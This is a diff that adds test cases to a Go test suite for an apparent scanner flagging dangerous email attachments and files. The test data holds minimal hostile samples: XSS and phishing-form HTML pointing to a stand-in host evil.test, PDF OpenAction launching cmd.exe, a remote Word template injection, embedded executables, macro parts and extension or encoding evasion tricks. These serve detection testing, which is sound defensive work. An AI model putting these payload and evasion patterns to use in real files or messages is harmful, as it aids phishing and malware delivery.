@@ -205,6 +205,47 @@ func TestDanger(t *testing.T) {
 		{"matryoshka.zip", "application/zip", matryoshka(t, 8), nested},
 		{"login.html", "text/html", "<form action=http://evil.test><input type=password></form>", scripted},
 		{"login.svg", "image/svg+xml", "<svg onload=alert(1)>", scripted},
+		{"notes.one", "application/msonenote", "x", runs},
+		{"notes.dat", "application/octet-stream", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + strings.Repeat("\x00", 80), runs},
+		{"server.rdp", "application/octet-stream", "full address:s:evil.test", runs},
+		{"site.webloc", "application/octet-stream", "x", runs},
+		{"profile.mobileconfig", "application/octet-stream", "x", runs},
+		{"run.py", "text/x-python", "import os", runs},
+		{"base.accdb", "application/octet-stream", "x", macros},
+		{"table.xlsx", "application/octet-stream", zipped(t, packed{"xl/workbook.xml", "<x/>"}, packed{"xl/macrosheets/sheet1.xml", "<x/>"}), macros},
+		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/document.xml", "<x/>"}, packed{"word/activeX/activeX1.bin", "x"}), macros},
+		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/_rels/settings.xml.rels",
+			`<Relationship Type="http://x/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>`}), macros},
+		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/_rels/document.xml.rels",
+			`<Relationship Type="http://x/hyperlink" Target="https://corp.example/" TargetMode="External"/>`}), ""},
+		{"letter.docx", "application/octet-stream", zipped(t, packed{"word/embeddings/oleObject1.bin", compound + wideText("\x01Ole10Native") + "setup.exe"}), runs},
+		{"mail.msg", "application/vnd.ms-outlook", compound + wideText("__attach_version1.0_#00000000"), unreadable},
+		{"mail.msg", "application/vnd.ms-outlook", compound + wideText("__substg1.0_1000001F"), ""},
+		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</OpenAction<</S/Launch/F(cmd.exe)>>>>", runs},
+		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>", scripted},
+		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", scripted},
+		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj <</Names<</EmbeddedFiles 2 0 R>>>> 2 0 obj <</Type/Filespec/F(setup.exe)>>", runs},
+		{"disk.zip", "application/zip", zipped(t, packed{"backup.dat", strings.Repeat("\x00", 0x8001) + "CD001"}), image},
+		{"login.zip", "application/zip", zipped(t, packed{"readme.html", "<html>" + strings.Repeat("x", 4000) + "<script>location='https://evil.test'</script>"}), scripted},
+		{"login.html. ", "application/octet-stream", "<script>x</script>", scripted},
+		{"login.html", "text/html", "\xff\xfe" + wideText("<script>x</script>"), scripted},
+		{"login.html", "text/html", "<body onpointerrawupdate=location='//evil.test'>", scripted},
+		{"login.html", "text/html", `<a href="&#106;avascript:x()">open</a>`, scripted},
+		{"login.html", "text/html", `<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>`, scripted},
+		{"login.svgz", "image/svg+xml", gzipped(t, "<svg><script>x</script></svg>"), scripted},
+		{"report.shtml", "application/octet-stream", "<script>x</script>", scripted},
+		{"photo.png", "text/html", "<script>x</script>", scripted},
+		{"files.xz", "application/x-xz", "\xfd7zXZ\x00\x00\x04", unreadable},
+		{"files.bz2", "application/x-bzip2", "BZh91AY&SY", unreadable},
+		{"files.zst", "application/zstd", "\x28\xb5\x2f\xfd\x04", unreadable},
+		{"files.lzh", "application/x-lzh", "\x22\x19-lh5-xxxxx", unreadable},
+		{"files.arj", "application/x-arj", "\x60\xea\x22\x00\x1e", unreadable},
+		{"files.ace", "application/x-ace", "\x30\x31\x31\x00\x90\x00\x00**ACE**", unreadable},
+		{"files.cab", "application/octet-stream", "x", unreadable},
+		{"logs.zip", "application/zip", "MZ" + strings.Repeat("\x00", 100) + zipped(t, packed{"a.txt", "x"}), runs},
+		{"logs.zip", "application/zip", zipped(t, packed{"a.txt", "x"}, packed{"inner.7z", "7z\xbc\xaf\x27\x1c\x00\x04"}), unreadable},
+		{"logs.zip", "application/zip", zipped(t, packed{"a.txt", "x"}, packed{"inner.zip", lockedZip(zipped(t, packed{"b.txt", "x"}))}), locked},
+		{"logs.tar", "application/x-tar", tarred(t, "inner.rar", rar4(0x04, "a.log")), locked},
 		{"mail.eml", "message/rfc822", mailWith("photo.png", "image/png", program), runs},
 		{"mail.eml", "application/octet-stream", mailWith("inner.eml", "message/rfc822", mailWith("x.zip", "application/zip", zipped(t, packed{"setup.exe", "x"}))), runs},
 	} {
@@ -228,7 +269,7 @@ func FuzzDanger(f *testing.F) {
 	f.Add("a.eml", []byte(mailWith("x", "text/html", "<form>")))
 	f.Fuzz(func(t *testing.T, name string, content []byte) {
 		p := &parser{}
-		p.danger(name, "application/octet-stream", content)
+		p.danger(name, "application/octet-stream", content, nil)
 		for _, d := range p.defects {
 			if d == "panic" {
 				t.Error("looking at the file broke")
